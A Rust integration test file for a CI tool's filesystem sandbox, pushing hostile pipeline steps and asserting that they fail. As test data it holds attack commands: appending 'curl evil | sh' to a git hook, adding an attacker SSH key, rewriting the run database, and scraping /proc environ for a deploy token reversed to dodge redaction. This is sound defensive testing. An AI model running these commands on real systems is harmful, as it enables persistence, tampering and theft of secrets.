//! The step sandbox (docs/SECURITY.md, "Filesystem sandbox"): hostile
//! steps pushed through the installed hook attack quire's home, another
//! repository and its runs, and the CI user's home; every attack fails and
//! every victim is left as it was, while what a build needs still works.

use quire_store::{JobState, RunState};

use quire_testkit::{Env, Gate, Repo, git};

const MARKER: &str = "# config-marker-8f3a2c";
const OWNER_KEY: &str = "ssh-ed25519 AAAAC3the-owners-key owner@ci\n";

/// A job per attack, each printing BREACHED if its attack got through.
fn hostile_pipeline(attacks: &[(&str, String)]) -> String {
    let mut text = String::new();
    for (name, attack) in attacks {
        text.push_str(&format!(
            r#"[jobs.{name}]
inputs = ["quire/push"]
allow_failure = true
sh = {:?}

"#,
            format!("{attack} && echo BREACHED")
        ));
    }
    text
}

/// Plant the CI user's authorized_keys in a work tree (the HOME the tests'
/// pushes, and so the hook and worker, run with).
fn plant_keys(repo: &Repo) -> std::path::PathBuf {
    let keys = repo.work.join(".ssh/authorized_keys");
    std::fs::create_dir_all(keys.parent().unwrap()).unwrap();
    std::fs::write(&keys, OWNER_KEY).unwrap();
    keys
}

fn log(env: &Env, run: &str, job: &str) -> String {
    env.step_log(run, job, 1)
}

#[test]
fn hostile_steps_reach_nothing_of_quire_other_repositories_or_the_ci_users_home() {
    let env = Env::new();
    env.config(&format!("max_workers = 2\n{MARKER}\n"));
    let home = env.home().dir().to_path_buf();
    let gate = Gate::new(&env);

    // The victim: a repository with a failed run, and a run deploying from
    // its workspace, held at the gate while the attacks run.
    let victim = env.repo_with_hook("victim");
    let victim_keys = plant_keys(&victim);
    let broken_sha = victim.commit(
        &[(
            ".quire/ci.toml",
            r#"[jobs.t]
inputs = ["quire/push"]
sh = "exit 3"
"#,
        )],
        "broken",
    );
    let failed = victim.push_refs(&["main:broken"]).remove(0);
    assert_eq!(env.wait_terminal(&failed).state, RunState::Failed);
    let deploy = format!(
        r#"[jobs.deploy]
inputs = ["quire/push"]
sh = [{:?}, "sh deploy.sh"]
"#,
        gate.step("deploy")
    );
    let main_sha = victim.commit(
        &[
            (".quire/ci.toml", &deploy),
            ("deploy.sh", "echo deploying the reviewed script\n"),
        ],
        "deploy",
    );
    let active = victim.push_refs(&["main"]).remove(0);
    gate.wait_ready("deploy");
    let hook = victim.bare.join("hooks/post-receive");
    let hook_before = std::fs::read(&hook).unwrap();

    // The attacker: another repository's pushed pipeline.
    let app = env.repo_with_hook("app");
    let app_keys = plant_keys(&app);
    let db = env.home().db_path();
    let (h, vb, ab) = (home.display(), victim.bare.display(), app.bare.display());
    let attacks = [
        ("read_config", format!("cat {h}/config.toml")),
        (
            "write_store",
            format!(
                "sqlite3 {} \"UPDATE runs SET state = 'complete', failure_kind = NULL, \
                 failure_detail = NULL WHERE id = '{failed}'\"",
                db.display()
            ),
        ),
        ("append_store", format!(": >> {}", db.display())),
        ("list_runs", format!("ls {h}/runs")),
        ("read_logs", format!("cat {h}/runs/{failed}/logs/t.log")),
        ("read_events", format!("cat {h}/runs/{failed}/events.jsonl")),
        ("read_worker_log", format!("cat {h}/worker.log")),
        (
            "update_ref",
            format!("git --git-dir {vb} update-ref refs/heads/main {broken_sha}"),
        ),
        (
            "append_hook",
            format!("echo 'curl evil | sh' >> {vb}/hooks/post-receive"),
        ),
        (
            "own_repo_ref",
            format!("git --git-dir {ab} update-ref refs/heads/evil HEAD"),
        ),
        (
            "other_workspace",
            format!("echo 'echo pwned' > {h}/runs/{active}/workspace/deploy.sh"),
        ),
        (
            "authorized_keys",
            format!(
                "echo 'ssh-ed25519 AAAAattacker' >> {} || echo 'ssh-ed25519 AAAAattacker' >> {}",
                app_keys.display(),
                victim_keys.display()
            ),
        ),
    ];
    let benign = "set -e
test \"$HOME\" = \"$QUIRE_WORKSPACE/../home\" || test \"$(cd \"$HOME\" && pwd)\" = \"$(cd \"$QUIRE_WORKSPACE/../home\" && pwd)\"
test \"$(cd \"$TMPDIR\" && pwd)\" = \"$(cd \"$QUIRE_WORKSPACE/../tmp\" && pwd)\"
git log --oneline -1
git describe --always
test -z \"$(git status --porcelain)\"
echo built > out.txt
git add out.txt
git -c user.name=ci -c user.email=ci@quire.invalid commit -q -m built
git log --oneline -1
echo scratch > \"$TMPDIR/scratch\"
mkdir -p \"$HOME/.cache\" && echo cached > \"$HOME/.cache/c\"
cat /dev/null > /dev/null
echo WORKS";
    let mut pipeline = hostile_pipeline(&attacks);
    pipeline.push_str(&format!(
        r#"[jobs.build]
inputs = ["quire/push"]
sh = {benign:?}
"#
    ));
    let run = app.push_and_wait(&pipeline);

    let detail = env.store().run_detail(&run.id).unwrap();
    for (name, attack) in &attacks {
        let job = detail.jobs.iter().find(|j| j.job.id == *name).unwrap();
        let text = log(&env, &run.id, name);
        assert_eq!(
            job.job.state,
            JobState::Failed,
            "{name} ({attack}):\n{text}"
        );
        assert!(!text.contains("BREACHED"), "{name} got through:\n{text}");
    }
    let build = log(&env, &run.id, "build");
    assert!(build.contains("WORKS"), "{build}");
    // Applied in full (the steps' network is tests/network.rs's).
    assert!(
        !build.contains("quire: sandbox: not applied")
            && !build.contains("quire: sandbox: partial"),
        "applied in full: {build}"
    );
    assert_eq!(run.state, RunState::Complete, "{run:?}");

    // Every victim is as it was.
    assert!(!log(&env, &run.id, "read_config").contains(MARKER));
    let victim_run = env.store().resolve_run(&failed).unwrap();
    assert_eq!(victim_run.state, RunState::Failed);
    assert_eq!(git(&victim.bare, &["rev-parse", "main"]), main_sha);
    assert_eq!(std::fs::read(&hook).unwrap(), hook_before);
    assert!(
        git(&app.bare, &["for-each-ref", "refs/heads/evil"]).is_empty(),
        "the run's own repository is read-only"
    );
    for keys in [&app_keys, &victim_keys] {
        assert_eq!(std::fs::read_to_string(keys).unwrap(), OWNER_KEY);
    }
    gate.open();
    assert_eq!(env.wait_terminal(&active).state, RunState::Complete);
    let deployed = env.step_log(&active, "deploy", 2);
    assert!(
        deployed.contains("deploying the reviewed script") && !deployed.contains("pwned"),
        "{deployed}"
    );
    // The run's HOME and TMPDIR went with its workspace.
    for dir in ["workspace", "home", "tmp"] {
        assert!(
            !env.home().run_dir(&run.id).unwrap().join(dir).exists(),
            "{dir}"
        );
    }
}

#[test]
fn with_the_sandbox_off_the_same_attacks_get_through() {
    let env = Env::new();
    env.config(&format!(
        r#"sandbox = "off"
{MARKER}
"#
    ));
    let victim = env.repo_with_hook("victim");
    let hook = victim.bare.join("hooks/post-receive");
    let hook_before = std::fs::read(&hook).unwrap();
    let app = env.repo_with_hook("app");
    let home = env.home().dir().display().to_string();
    let attacks = [
        ("read_config", format!("cat {home}/config.toml")),
        (
            "append_hook",
            format!("echo '# appended' >> {}", hook.display()),
        ),
    ];
    let run = app.push_and_wait(&hostile_pipeline(&attacks));
    assert!(log(&env, &run.id, "read_config").contains(MARKER));
    assert!(log(&env, &run.id, "append_hook").contains("BREACHED"));
    assert_ne!(std::fs::read(&hook).unwrap(), hook_before);
    let show = env.runs(&["show", &run.id]).assert().success();
    let show = String::from_utf8_lossy(&show.get_output().stdout).into_owned();
    assert!(
        show.contains("sandbox   off (sandbox = \"off\" in config.toml)"),
        "{show}"
    );
}

#[test]
fn required_runs_confined_on_this_kernel_and_show_says_how() {
    let env = Env::new();
    env.config("sandbox = \"required\"\n");
    let app = env.repo_with_hook("app");
    let run = app.push_and_wait(&hostile_pipeline(&[(
        "read_config",
        format!("cat {}/config.toml", env.home().dir().display()),
    )]));
    assert_eq!(run.state, RunState::Complete, "{run:?}");
    assert!(!log(&env, &run.id, "read_config").contains("sandbox = \"required\""));
    let show = env.runs(&["show", &run.id]).assert().success();
    let show = String::from_utf8_lossy(&show.get_output().stdout).into_owned();
    assert!(
        show.contains(
            "sandbox   Landlock: steps write only their workspace, TMPDIR and HOME; quire's \
             home, the repositories and the CI user's home are hidden"
        ),
        "{show}"
    );
    let json = env.json(&["show", &run.id]);
    assert!(
        json["sandbox"]
            .as_str()
            .is_some_and(|s| s.starts_with("Landlock: steps write only")),
        "{json}"
    );
}

#[test]
fn run_as_starts_steps_as_that_user_in_directories_it_owns() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    env.config("run_as = \"nobody\"\n");
    // The test's scratch directory holds the home: let others pass.
    std::fs::set_permissions(env.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let app = env.repo_with_hook("app");
    let steps = "set -e
id -u
git log --oneline -1
test -z \"$(git status --porcelain)\"
echo built > out.txt
echo scratch > \"$TMPDIR/scratch\"
echo cached > \"$HOME/c\"
echo WORKS";
    let run = app.push_and_wait(&format!(
        r#"[jobs.build]
inputs = ["quire/push"]
sh = {steps:?}

{}"#,
        hostile_pipeline(&[(
            "read_config",
            format!("cat {}/config.toml", env.home().dir().display()),
        )])
    ));
    if rustix::process::geteuid().as_raw() != 0 {
        // Only root can switch users: the run is refused, saying so.
        assert_eq!(run.state, RunState::Failed);
        let detail = run.failure_detail.unwrap();
        assert!(
            detail.contains("only root can start steps as another user"),
            "{detail}"
        );
        return;
    }
    assert_eq!(run.state, RunState::Complete, "{run:?}");
    let text = log(&env, &run.id, "build");
    assert!(
        text.contains("stdout F 65534\n") && text.contains("WORKS"),
        "{text}"
    );
    assert!(!log(&env, &run.id, "read_config").contains("run_as"));
    // The worker's files stay its own and private.
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&env.home().db_path()), 0o600);
    assert_eq!(mode(&env.home().dir().join("workers")), 0o700);
}

#[test]
fn run_as_an_unknown_user_fails_the_run_clearly() {
    let env = Env::new();
    env.config("run_as = \"no-such-user-quire\"\n");
    let app = env.repo_with_hook("app");
    let run = app.push_and_wait(
        r#"[jobs.t]
inputs = ["quire/push"]
sh = "true"
"#,
    );
    assert_eq!(run.state, RunState::Failed);
    let detail = run.failure_detail.unwrap();
    let want = if rustix::process::geteuid().as_raw() == 0 {
        "run_as names user \"no-such-user-quire\", which this machine does not know"
    } else {
        "only root can start steps as another user"
    };
    assert!(detail.contains(want), "{detail}");
    assert!(
        env.store().run_detail(&run.id).unwrap().jobs.is_empty(),
        "no step ran"
    );
}

#[test]
fn run_as_owns_what_a_cache_restores_even_when_copied_from_the_default_branch() {
    use std::os::unix::fs::PermissionsExt;
    // Without root, run_as is refused: tested above.
    if !quire_testkit::require(
        "root (run_as)",
        "run the tests as root",
        quire_testkit::is_root(),
    ) {
        return;
    }
    let env = Env::new();
    env.config("run_as = \"nobody\"\n");
    std::fs::set_permissions(env.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let app = env.repo_with_hook("app");
    git(&app.bare, &["symbolic-ref", "HEAD", "refs/heads/main"]);
    let pipeline = r#"[jobs.build]
inputs = ["quire/push"]
cache = ["out/target"]
sh = "mkdir -p out/target && echo run >> out/target/runs && wc -l < out/target/runs"
"#;
    let first = app.push_and_wait(pipeline);
    assert_eq!(first.state, RunState::Complete, "{first:?}");
    // A branch's first run restores a copy of the default branch's cache,
    // made by the worker: the step must still own it to append.
    git(&app.work, &["checkout", "--quiet", "-b", "feature"]);
    app.commit(&[("README", "feature\n")], "feature");
    let run = app.push_refs(&["feature"]).remove(0);
    let run = env.wait_terminal(&run);
    let text = log(&env, &run.id, "build");
    assert_eq!(run.state, RunState::Complete, "{text}");
    assert!(
        text.contains("restored out/target from the default branch main"),
        "{text}"
    );
    assert!(text.contains("stdout F 2\n"), "{text}");
}

#[test]
fn a_program_in_the_ci_users_home_cannot_be_started_and_the_log_says_why() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let app = env.repo_with_hook("app");
    // The pushes', and so the worker's, HOME is the work tree.
    let tool = app.work.join("bin/tool");
    std::fs::create_dir_all(tool.parent().unwrap()).unwrap();
    std::fs::write(&tool, "#!/bin/sh\necho ran\n").unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let run = app.push_and_wait(&format!(
        r#"[jobs.t]
inputs = ["quire/push"]
sh = [[{:?}]]
"#,
        tool.display().to_string()
    ));
    assert_eq!(run.state, RunState::Failed);
    let text = log(&env, &run.id, "t");
    assert!(
        text.contains(&format!(
            "quire: cannot start {}: Permission denied (os error 13) (the sandbox hides \
             quire's home, the repositories and the CI user's home from steps: docs/SECURITY.md; \
             [steps] read in config.toml opens a directory to them)",
            tool.display()
        )),
        "{text}"
    );
    let detail = env.store().run_detail(&run.id).unwrap();
    assert_eq!(detail.jobs[0].job.exit_code, Some(126));
}

/// A bare program name the job's PATH does not have is not found (127),
/// sandboxed or not: never taken from the workspace, though a file of that
/// name is there (the pushed tree can hold anything).
#[test]
fn a_bare_name_missing_from_path_is_not_found_even_when_the_workspace_has_it() {
    let env = Env::new();
    let app = env.repo_with_hook("app");
    app.commit(
        &[(
            "quire-no-such-tool",
            "#!/bin/sh\necho RAN FROM THE WORKSPACE\n",
        )],
        "a tool",
    );
    git(
        &app.work,
        &["update-index", "--chmod=+x", "quire-no-such-tool"],
    );
    git(&app.work, &["commit", "--quiet", "-m", "executable"]);
    for sandbox in ["required", "off"] {
        env.config(&format!("sandbox = \"{sandbox}\"\n"));
        let run = app.push_and_wait(
            r#"[jobs.t]
inputs = ["quire/push"]
sh = [["quire-no-such-tool"]]
"#,
        );
        assert_eq!(run.state, RunState::Failed, "{sandbox}");
        let text = log(&env, &run.id, "t");
        assert!(
            !text.contains("RAN FROM THE WORKSPACE"),
            "{sandbox}: {text}"
        );
        assert!(
            text.contains("quire: cannot start quire-no-such-tool"),
            "{sandbox}: {text}"
        );
        let detail = env.store().run_detail(&run.id).unwrap();
        assert_eq!(detail.jobs[0].job.exit_code, Some(127), "{sandbox}: {text}");
    }
}

const TOKEN: &str = "tok-4f1d9a7c2e";

/// Two runs at once: the victim's deploy job holds `DEPLOY_TOKEN` in its
/// environment while it waits at the gate; the attacker's step, in another
/// repository's run beside it, reads every `/proc/PID/environ` it can find
/// and prints what it finds reversed (redaction knows the token, not its
/// reverse). The attacker's log.
fn read_a_concurrent_runs_environment(config: &str) -> (Env, String, String) {
    let env = Env::new();
    env.config(&format!(
        r#"max_workers = 2
{config}
[secrets]
DEPLOY_TOKEN = "{TOKEN}"
"#
    ));
    let gate = Gate::new(&env);
    let victim = env.repo_with_hook("victim");
    let held = victim.push_pipeline(&format!(
        r#"[jobs.deploy]
inputs = ["quire/push"]
secrets = ["DEPLOY_TOKEN"]
sh = '{}'
"#,
        gate.step("deploy")
    ));
    gate.wait_ready("deploy");
    let attacker = env.repo_with_hook("attacker");
    let run = attacker.push_and_wait(
        r#"[jobs.snoop]
inputs = ["quire/push"]
sh = '''
seen=0
for f in /proc/[0-9]*/environ; do
  seen=$((seen+1))
  tr '\0' '\n' < "$f" 2>/dev/null | grep '^DEPLOY_TOKEN=' | rev
done
echo "environments seen: $seen"
'''
"#,
    );
    assert_eq!(run.state, RunState::Complete, "{run:?}");
    gate.open();
    assert_eq!(env.wait_terminal(&held).state, RunState::Complete);
    let log = log(&env, &run.id, "snoop");
    (env, run.id, log)
}

fn reversed(s: &str) -> String {
    s.chars().rev().collect()
}

#[test]
fn a_step_cannot_read_the_secrets_in_the_environment_of_another_runs_step() {
    let (env, attacker, log) = read_a_concurrent_runs_environment("");
    assert!(!log.contains(&reversed(TOKEN)), "{log}");
    // It did look: at its own processes, all it can see.
    assert!(log.contains("environments seen: "), "{log}");
    let json = env.json(&["show", &attacker]);
    assert!(
        json["sandbox"]
            .as_str()
            .is_some_and(|s| s
                .contains("; steps see only this run's processes (a pid namespace of its own)")),
        "{json}"
    );
}

#[test]
fn with_the_sandbox_off_a_step_reads_another_runs_secret_from_proc() {
    // As another user than root, the kernel keeps a process's environ from
    // processes that are not its ancestors in some setups (this test's
    // machine as nobody): the read this test shows needs root.
    if !quire_testkit::require("root", "run the tests as root", quire_testkit::is_root()) {
        return;
    }
    let (env, attacker, log) = read_a_concurrent_runs_environment("sandbox = \"off\"");
    assert!(log.contains(&reversed(TOKEN)), "{log}");
    let json = env.json(&["show", &attacker]);
    assert!(
        json["sandbox"]
            .as_str()
            .is_some_and(|s| s.contains("steps see every process of the worker's user")),
        "{json}"
    );
}
